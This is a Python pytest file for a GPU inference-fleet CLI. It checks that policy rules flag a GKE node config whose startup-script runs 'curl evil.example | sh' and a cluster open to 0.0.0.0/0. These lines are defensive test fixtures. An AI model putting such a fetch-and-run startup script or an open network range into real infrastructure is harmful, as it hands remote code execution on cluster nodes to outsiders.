"""Policies see what documents pass on to Google Cloud, so a pull request cannot open anything unread."""

import json
from pathlib import Path

import pytest
from typer.testing import CliRunner

from inferfleet.cli.main import app

HEAD = "apiVersion: inferfleet.dev/v1alpha1\n"
CLASS = """kind: InferenceClass
metadata: {name: l4}
spec:
  node: {cpu: "4", memory: 16Gi}
  resources: {gpu: {count: 1, memory: 24Gi}}
  provisioning:
    provider: GKE
    gke:
      machineType: g2-standard-8
      accelerator: {type: nvidia-l4, count: 1}
      provider: {nodeConfig: {metadata: {startup-script: "curl evil.example | sh"}}}
"""
CLUSTER = """kind: InferenceCluster
metadata: {name: east}
spec:
  cluster:
    source: GKE
    gke:
      project: acme-ml
      region: us-east4
      minVersion: "1.35"
      provider: {cluster: {openTo: [0.0.0.0/0]}}
  nodePools: [{name: l4, className: l4, maxNodeCount: 1, zones: [us-east4-a]}]
"""
POLICY = """kind: Policy
metadata: {name: %s}
spec:
  each: %s
  cel: '%s'
  message: ask us
"""


def test_a_policy_refuses_what_opens_a_network_and_a_script_that_starts_with_nodes(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name, text in {
        "classes/l4.yaml": CLASS,
        "stacks/prod/east.yaml": CLUSTER,
        "policies/networks.yaml": POLICY
        % (
            "closed",
            "cluster",
            'cluster.gke.all(name, !cluster.gke[name].contains("0.0.0.0/0"))',
        ),
        "policies/scripts.yaml": POLICY
        % ("no-scripts", "pool", 'pool.provider.all(name, !name.endsWith("startup-script"))'),
    }.items():
        file = tmp_path / name
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(HEAD + text)
    (tmp_path / "Pulumi.yaml").write_text("name: inferfleet\n")
    (tmp_path / "stacks/Pulumi.prod.yaml").write_text("config: {}\n")
    monkeypatch.chdir(tmp_path)
    ran = CliRunner().invoke(app, ["validate", "--stack", "prod", "--json"], prog_name="inferfleet")
    assert [problem["what"] for problem in json.loads(ran.stdout)["problems"]] == [
        "cluster east breaks policy closed: ask us",
        "pool east/l4 breaks policy no-scripts: ask us",
    ]
